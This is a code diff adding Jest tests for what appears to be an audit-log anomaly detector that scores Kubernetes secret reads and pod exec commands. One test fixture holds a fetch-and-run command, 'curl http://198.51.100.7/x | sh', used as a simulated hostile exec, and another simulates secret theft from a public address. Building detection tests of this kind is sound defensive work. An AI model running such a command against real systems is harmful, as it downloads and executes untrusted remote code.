@@ -1,0 +1,51 @@
+import { describe, expect, test } from '@jest/globals';
+import type { ApiRequest } from '../../../lib/audit/request.ts';
+import { userAgentOf } from '../../../lib/audit/user-agent.ts';
+import { windowOf } from '../../../lib/time.ts';
+import { alice, command, monday } from '../requests.ts';
+import { day, hour, liveThrough, requestAt, routine } from './lives.ts';
+
+const days = 14;
+const reading = (name: string): Partial<ApiRequest> => ({ verb: 'get', resource: 'secrets', namespace: 'shop', name });
+const nightly = (names: (night: number) => readonly string[]): ApiRequest[] =>
+  Array.from({ length: days }, (_, night) => names(night).map((name) => requestAt(night * day, reading(name)))).flat();
+const decadesOf = (before: readonly ApiRequest[], last: ApiRequest): number =>
+  liveThrough([...[...routine({ until: days * day }), ...before].sort((one, other) => one.time - other.time), last]).signals.find(({ detector }) => detector === 'secret-read')?.decades ?? 0;
+
+describe('how surprising one more is', () => {
+  const five = Array.from({ length: 5 }, (_, index) => `secret-${'abcde'.charAt(index)}`);
+  const last = requestAt(days * day, reading('other'));
+
+  test('depends on how often there was a new one, not on how many are read at once', () => {
+    const alwaysTheSame = decadesOf(nightly(() => five), last);
+    const oftenOneMore = decadesOf(nightly((night) => [...five, `tenant-${'abcdefghijklmn'.charAt(night)}-key`]), last);
+    const one = decadesOf(nightly(() => five.slice(0, 1)), last);
+    expect(alwaysTheSame).toBeGreaterThan(oftenOneMore + 0.3);
+    expect(Math.abs(alwaysTheSame - one)).toBeLessThan(0.5);
+  });
+});
+
+describe('a person who runs commands', () => {
+  const shell = (namespace: string): Partial<ApiRequest> => ({ identity: alice, verb: 'create', resource: 'pods/exec', namespace, name: 'web-0', query: command('bash', '-c', 'curl http://198.51.100.7/x | sh') });
+  const life = (every: number): ApiRequest[] => routine({ until: days * day, every }, { identity: alice });
+  const graveOf = (requests: readonly ApiRequest[]): number => Math.max(0, ...liveThrough(requests.toSorted((one, other) => one.time - other.time)).signals.filter(({ key }) => key.startsWith('exec/')).map(({ decades }) => decades));
+
+  test('is not excused by one grave command for the next elsewhere', () => {
+    const second = graveOf([...life(hour), requestAt(2 * day, shell('shop')), requestAt(days * day, shell('web'))]);
+    expect(second).toBeGreaterThanOrEqual(3);
+  });
+});
+
+describe('what was usual', () => {
+  test('stays usual though it was reported as done from elsewhere', () => {
+    const usual = nightly(() => ['key']);
+    const away = requestAt(days * day, { ...reading('key'), address: '198.51.100.7', network: { block: '198.51.100.0/24', scope: 'public' }, agent: userAgentOf('curl/8.5.0') });
+    const attack = ['a', 'b', 'c', 'd', 'e', 'f'].map((name, index) => requestAt(days * day + 1000 * index, { ...away, ...reading(`other-${name}`) }));
+    const { state } = liveThrough([...usual, away, ...attack.map((request, index) => ({ ...request, auditId: `attack-${String(index)}` }))]);
+    expect(state.episode?.reached.medium).toBeDefined();
+    const quarantined = [...state.baseline.traits].filter(([, trait]) => trait.quarantined !== undefined).map(([key]) => key);
+    expect(quarantined).toContain('secret-read|shop/other-a');
+    expect(quarantined).not.toContain('secret-read|shop/key');
+    expect(windowOf(monday + days * day)).toBe(state.episode?.begun);
+  });
+});
